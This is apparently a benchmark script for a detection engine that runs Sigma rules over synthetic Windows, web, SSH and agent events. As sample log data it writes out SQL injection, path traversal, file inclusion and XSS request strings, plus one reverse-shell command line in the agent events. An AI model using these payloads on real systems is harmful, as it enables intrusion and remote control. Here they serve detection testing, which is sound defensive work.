// `node dist/test/bench/detect.js`: events/s of Detector.evaluate on one core over a realistic event mix.
// Loads the shipped pack (rules/ and rules-sigmahq/ under the default policy); BENCH_PACK=regression loads the
// SigmaHQ regression rules, the Hayabusa sample rules, the engine's fixture rules and generated variants
// (BENCH_VARIANTS per rule, default 2) instead; the data comes from ../shared/data (or MINISOC_DATA).
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Event } from '../../services/core/proto.js';
import { DEFAULT_POLICY, Detector, eventsFromDocs, loadCatalog, loadRules, type SigmaRule } from '../../services/detect/index.js';
import type { DetectionRule, FieldTest, Part, Search, Value } from '../../services/detect/sigma/types.js';
import { PARSERS } from '../../services/normalize/parsers/index.js';
import { parseConcatenatedJson } from '../../services/detect/testdata/json-stream.js';
import { ROOT, SHARED_DATA } from '../harness.js';

const EVENTS_PER_ROUND = Number(process.env.BENCH_EVENTS ?? 50_000);
const ROUNDS = Number(process.env.BENCH_ROUNDS ?? 7);
const WARMUP_ROUNDS = Number(process.env.BENCH_WARMUP ?? 2);
const BATCH = Number(process.env.BENCH_BATCH ?? 500);
const VARIANTS = Number(process.env.BENCH_VARIANTS ?? 2);

const DATA = SHARED_DATA;

function files(dir: string, suffix: string, out: string[] = []): string[] {
  for (const name of readdirSync(dir).sort()) {
    const p = join(dir, name);
    if (name.endsWith(suffix)) out.push(p);
    else if (!name.includes('.')) files(p, suffix, out);
  }
  return out;
}

// ---------------------------------------------------------------- rules

/** A copy of a detection rule with another id and values that no longer match the same events. */
function variant(rule: DetectionRule, n: number): DetectionRule {
  const hex = (rule.id.replace(/-/g, '').slice(0, 20) + n.toString(16).padStart(12, '0')).slice(0, 32);
  const id = `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-8${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
  const part = (p: Part): Part => (p.k === 'lit' ? { k: 'lit', s: `${p.s}v${n}` } : p);
  const value = (v: Value): Value => (v.t === 'pattern' ? { t: 'pattern', parts: v.parts.map(part) } : v);
  // The event id and channel stay, so a variant is tried on the same events as its original.
  const test = (t: FieldTest): FieldTest => (/^(EventID|Channel|Provider_Name)$/.test(t.field) ? t : { ...t, groups: t.groups.map((g) => g.map(value)) });
  const searches = new Map<string, Search>([...rule.searches].map(([k, s]) => [k, { ...s, maps: s.maps.map((m) => m.map(test)) }]));
  return { ...rule, id, title: `${rule.title} (variant ${n})`, name: undefined, searches };
}

function loadBenchRules(): SigmaRule[] {
  if (process.env.BENCH_PACK !== 'regression') {
    const c = loadCatalog([join(ROOT, 'rules'), join(ROOT, 'rules-sigmahq')], DEFAULT_POLICY);
    return c.entries.filter((e) => e.state === 'runs').map((e) => e.rule);
  }
  const regression = files(join(DATA, 'sigma-regression', 'cases'), 'rule.yml');
  const samples = files(join(DATA, 'sysmon-samples'), '.yml');
  const fixtures = join(ROOT, 'services', 'detect', 'testdata', 'rules');
  const sigmahq = loadRules(regression).rules;
  const others = loadRules([...samples, fixtures]).rules;
  const rules = [...sigmahq, ...others];
  // Variants of the SigmaHQ rules only: their selections are positive, so changed values match nothing,
  // while the Hayabusa rules' exclusions would turn into catch-alls.
  for (let n = 1; n <= VARIANTS; n++) for (const r of sigmahq) if (r.kind === 'detection') rules.push(variant(r, n));
  return rules;
}

// ---------------------------------------------------------------- events

type Obj = Record<string, unknown>;

/** Ordinary processes: image, command line, original file name. */
const PROCESSES: readonly (readonly [string, string, string])[] = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1736 /prefetch:1', 'chrome.exe'],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 'EXPLORER.EXE'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\Q3 report.docx"', 'WinWord.exe'],
  ['C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', 'RuntimeBroker.exe'],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'CONHOST.EXE'],
];

/** Ordinary values for the other EventData fields rules look at most. */
const BENIGN: Readonly<Record<string, readonly string[]>> = {
  ParentImage: ['C:\\Windows\\System32\\services.exe', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\svchost.exe'],
  ParentCommandLine: ['C:\\Windows\\system32\\services.exe', 'C:\\Windows\\Explorer.EXE', 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p'],
  TargetFilename: ['C:\\Users\\alice\\AppData\\Local\\Temp\\tmp5A21.tmp', 'C:\\Windows\\Prefetch\\CHROME.EXE-5A21F9C3.pf', 'C:\\Users\\alice\\Documents\\notes.txt'],
  TargetObject: ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.txt\\OpenWithList\\MRUList', 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Common\\General\\Toolbars'],
  Details: ['DWORD (0x00000001)', 'a', 'Binary Data'],
  ImageLoaded: ['C:\\Windows\\System32\\kernel32.dll', 'C:\\Windows\\System32\\user32.dll', 'C:\\Windows\\System32\\combase.dll'],
  QueryName: ['www.google.com', 'login.microsoftonline.com', 'outlook.office365.com'],
  DestinationIp: ['142.250.74.46', '52.97.146.162', '10.0.0.12'],
  DestinationHostname: ['www.google.com', 'outlook.office365.com', 'fileserver.corp.local'],
  TargetUserName: ['alice', 'bob', 'svc_backup'],
  SubjectUserName: ['alice', 'bob', 'WS01$'],
};

const PARSE_CONTEXT = { sourceId: 'bench', receivedMs: Date.UTC(2026, 0, 1) };

/** An ordinary value for an EventData field, or undefined to keep the original. */
function benign(field: string, i: number): string | undefined {
  const [image, commandLine, originalName] = PROCESSES[i % PROCESSES.length]!;
  if (field === 'Image') return image;
  if (field === 'CommandLine') return commandLine;
  if (field === 'OriginalFileName') return originalName;
  const values = BENIGN[field];
  return values ? values[i % values.length] : undefined;
}

const escapeXml = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/**
 * Windows events through the normalize parsers (production path): each real event of the shared data
 * as is (the attacks, 1 in 50) and as ordinary activity of the same kind (49 in 50).
 */
function windowsEvents(): Event[] {
  const out: Event[] = [];
  const copies = 49;
  for (const f of files(join(DATA, 'sigma-regression', 'cases'), '.json')) {
    for (const doc of parseConcatenatedJson(readFileSync(f, 'utf8')) as Obj[]) {
      out.push(...PARSERS.json!(JSON.stringify(doc), PARSE_CONTEXT));
      const ev = doc.Event as Obj;
      for (let k = 0; k < copies; k++) {
        const data = { ...(ev.EventData as Obj) };
        for (const field of Object.keys(data)) { const v = benign(field, out.length + k); if (v !== undefined) data[field] = v; }
        out.push(...PARSERS.json!(JSON.stringify({ Event: { ...ev, EventData: data } }), PARSE_CONTEXT));
      }
    }
  }
  for (const f of files(join(DATA, 'sysmon-samples'), '.sample.xml')) {
    const xml = readFileSync(f, 'utf8');
    let events: Event[];
    try { events = PARSERS.winxml!(xml, PARSE_CONTEXT); } catch { continue; }
    out.push(...events);
    for (let k = 0; k < copies; k++) {
      const n = out.length + k;
      const changed = xml.replace(/(<Data Name="([^"]+)">)[^<]*(<\/Data>)/g, (m, open: string, field: string, close: string) => {
        const v = benign(field, n);
        return v === undefined ? m : `${open}${escapeXml(v)}${close}`;
      });
      out.push(...PARSERS.winxml!(changed, PARSE_CONTEXT));
    }
  }
  out.forEach((e, i) => { e.id = `win-${i}`; });
  return out;
}

const PATHS = ['/', '/index.html', '/app/item/42', '/api/v1/orders?page=2', '/static/app.js', '/login', '/search?q=blue+shoes', '/images/logo.png'];
const ATTACKS = ["/item?id=1' OR 1=1--", '/search?q=1 UNION SELECT username,password FROM users', '/../../../../etc/passwd', '/index.php?page=php://filter/resource=config', '/?q=<script>alert(1)</script>'];
const AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/127.0', 'curl/8.5.0', 'sqlmap/1.7.2#stable (https://sqlmap.org)'];

function webEvent(i: number): Record<string, unknown> {
  const attack = i % 50 === 0;
  const url = attack ? ATTACKS[(i / 50) % ATTACKS.length]! : PATHS[i % PATHS.length]!;
  const q = url.indexOf('?');
  return {
    '@timestamp': new Date(Date.UTC(2026, 0, 1) + i * 10).toISOString(), 'event.category': ['web'], 'event.module': 'nginx', 'event.dataset': 'nginx.access',
    'url.original': url, 'url.path': q < 0 ? url : url.slice(0, q), 'url.query': q < 0 ? '' : url.slice(q + 1), 'http.request.method': i % 7 ? 'GET' : 'POST',
    'http.response.status_code': i % 97 === 0 ? 500 : i % 13 === 0 ? 404 : 200, 'http.response.bytes': 500 + (i % 5000),
    'user_agent.original': AGENTS[i % 29 === 0 ? 3 : i % 3]!, 'source.ip': `203.0.113.${i % 200}`, 'host.name': `web-${i % 4}`,
    message: `${i % 7 ? 'GET' : 'POST'} ${url} HTTP/1.1`,
  };
}

function sshEvent(i: number): Record<string, unknown> {
  const ok = i % 9 === 0;
  const ip = `198.51.100.${i % 40}`;
  const user = ['root', 'admin', 'ubuntu', 'oracle', 'deploy'][i % 5]!;
  return {
    '@timestamp': new Date(Date.UTC(2026, 0, 1) + i * 10).toISOString(), 'event.category': ['authentication'], 'event.outcome': ok ? 'success' : 'failure',
    'event.module': 'syslog', 'process.name': 'sshd', 'source.ip': ip, 'user.name': user, 'host.name': 'bastion', 'host.os.family': 'linux',
    message: ok ? `Accepted publickey for ${user} from ${ip} port 52211 ssh2` : `Failed password for ${user} from ${ip} port 52211 ssh2`,
  };
}

function agentEvent(i: number): Record<string, unknown> {
  const base = { '@timestamp': new Date(Date.UTC(2026, 0, 1) + i * 10).toISOString(), 'host.name': `srv-${i % 10}`, 'host.os.family': 'linux', 'agent.id': `agent-${i % 10}` };
  switch (i % 3) {
    case 0: return { ...base, 'event.category': ['process'], 'event.type': ['start'], 'process.executable': ['/usr/bin/python3', '/usr/bin/curl', '/usr/sbin/nginx', '/usr/bin/bash'][i % 4], 'process.command_line': i % 101 === 0 ? 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' : `python3 /opt/app/worker.py --id ${i}`, 'process.pid': 1000 + i, 'user.name': 'app' };
    case 1: return { ...base, 'event.category': ['network'], 'event.type': ['connection'], 'destination.ip': `10.0.${i % 4}.${i % 250}`, 'destination.port': i % 211 === 0 ? 4444 : 443, 'network.transport': 'tcp' };
    default: return { ...base, 'event.category': ['host'], 'event.kind': 'metric', 'host.cpu.usage': (i % 100) / 100 };
  }
}

/** The event mix: 40 % Windows (process, network, registry, file, Security, ...; 2 % of them attacks), 30 % web, 20 % SSH, 10 % agent. */
function mix(windows: Event[], n: number): Event[] {
  const web = eventsFromDocs(Array.from({ length: 997 }, (_, i) => webEvent(i)), 'web');
  const ssh = eventsFromDocs(Array.from({ length: 503 }, (_, i) => sshEvent(i)), 'ssh');
  const agent = eventsFromDocs(Array.from({ length: 301 }, (_, i) => agentEvent(i)), 'agent');
  const out: Event[] = [];
  // BENCH_ONLY=windows|web|ssh|agent measures one kind of event alone.
  const only = process.env.BENCH_ONLY;
  for (let i = 0; i < n; i++) {
    const r = i % 10;
    const pool = only === 'windows' ? windows : only === 'web' ? web : only === 'ssh' ? ssh : only === 'agent' ? agent : r < 4 ? windows : r < 7 ? web : r < 9 ? ssh : agent;
    out.push(pool[(i * 7919) % pool.length]!);
  }
  return out;
}

/** Fresh copies, so nothing parsed for one round (extra_json) is reused by the next. */
function fresh(events: Event[]): Event[] {
  return events.map((e) => ({ ...e }));
}

function run(detector: Detector, events: Event[]): { ms: number; cpuMs: number; alerts: number } {
  let alerts = 0;
  const c0 = process.cpuUsage();
  const t0 = performance.now();
  for (let i = 0; i < events.length; i += BATCH) alerts += detector.evaluate(events.slice(i, i + BATCH)).length;
  const ms = performance.now() - t0;
  const c = process.cpuUsage(c0);
  return { ms, cpuMs: (c.user + c.system) / 1000, alerts };
}

function main(): void {
  if (!existsSync(DATA)) throw new Error(`no test data at ${DATA} (set MINISOC_DATA)`);
  const t0 = performance.now();
  const rules = loadBenchRules();
  // BENCH_PROFILE=1 measures time per rule (slower) and BENCH_TOP=n prints the n costliest rules.
  const detector = new Detector(rules, { profile: process.env.BENCH_PROFILE === '1' });
  const loadMs = performance.now() - t0;
  console.log(`pack: ${process.env.BENCH_PACK === 'regression' ? 'regression rules and variants' : 'shipped (rules/ + rules-sigmahq/, default policy)'}; after loading: rss ${(process.memoryUsage().rss / 1e6).toFixed(0)} MB, heap ${(process.memoryUsage().heapUsed / 1e6).toFixed(0)} MB`);
  const template = mix(windowsEvents(), EVENTS_PER_ROUND);
  console.log(`rules: ${rules.length} loaded (${rules.filter((r) => r.kind === 'correlation').length} correlations), ${detector.size} detection rules evaluated, ${detector.quiet.length} informational left out, in ${loadMs.toFixed(0)} ms`);
  console.log(`events per round: ${template.length}, batches of ${BATCH}, ${WARMUP_ROUNDS} warm-up + ${ROUNDS} measured rounds`);
  for (let r = 0; r < WARMUP_ROUNDS; r++) run(detector, fresh(template));
  const rate = (ms: number): string => Math.round(template.length / (ms / 1000)).toLocaleString('en-US');
  const before = detector.stats();
  const roundsMs: number[] = [];
  let cpuMs = 0;
  let alerts = 0;
  for (let r = 0; r < ROUNDS; r++) {
    const res = run(detector, fresh(template));
    roundsMs.push(res.ms);
    if (process.env.BENCH_HEAP) console.log(`  round ${r}: ${rate(res.ms)}/s, heap ${(process.memoryUsage().heapUsed / 1e6).toFixed(0)} MB`);
    cpuMs += res.cpuMs;
    alerts += res.alerts;
  }
  const after = detector.stats();
  const events = template.length * ROUNDS;
  const perEvent = (after.evaluations - before.evaluations) / events;
  console.log(`alerts: ${alerts} (${((alerts / events) * 100).toFixed(2)} % of events), rule evaluations per event: ${perEvent.toFixed(1)}`);
  if (process.env.BENCH_TOP) {
    const cost = (st: { hits: number; timeMs?: number }): number => st.timeMs ?? st.hits;
    const top = Object.entries(after.rules).sort((a, b) => cost(b[1]) - cost(a[1])).slice(0, Number(process.env.BENCH_TOP));
    for (const [id, st] of top) console.log(`  ${st.timeMs?.toFixed(1) ?? '-'} ms, ${st.hits} hits / ${st.evaluations} evaluations  ${rules.find((r) => r.id === id)?.title}`);
  }
  // Other processes share the machine: the median round is the figure, the spread says how noisy it was.
  const sorted = [...roundsMs].sort((a, b) => a - b);
  const median = sorted[Math.floor(sorted.length / 2)]!;
  console.log(`rounds: ${roundsMs.map((ms) => `${rate(ms)}/s`).join(', ')}`);
  console.log(`throughput: ${rate(median)} events/s on one core (median round), ${((median * 1000) / template.length).toFixed(2)} µs per event`);
  // CPU time does not count the time other processes took the core; it does count V8's GC helper threads.
  console.log(`cpu time: ${Math.round(events / (cpuMs / 1000)).toLocaleString('en-US')} events per CPU-second, ${((cpuMs * 1000) / events).toFixed(2)} µs of CPU per event`);
}

main();
